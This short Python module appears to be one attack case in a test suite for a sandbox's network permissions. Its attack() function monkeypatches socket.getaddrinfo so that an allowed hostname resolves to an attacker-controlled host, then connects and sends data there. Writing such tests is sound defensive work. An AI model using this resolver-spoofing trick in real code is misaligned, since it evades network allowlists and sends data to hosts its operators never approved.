"""A resolver of evil's own that answers for a granted name."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["granted.test"], "patch": True}

import socket

from . import payload


def attack():
    original = socket.getaddrinfo
    answer = original(payload.HOST, payload.PORT, type=socket.SOCK_STREAM)
    socket.getaddrinfo = lambda *args: answer
    try:
        with socket.create_connection(("granted.test", 1)) as connection:
            connection.sendall(b"evil")
    finally:
        socket.getaddrinfo = original
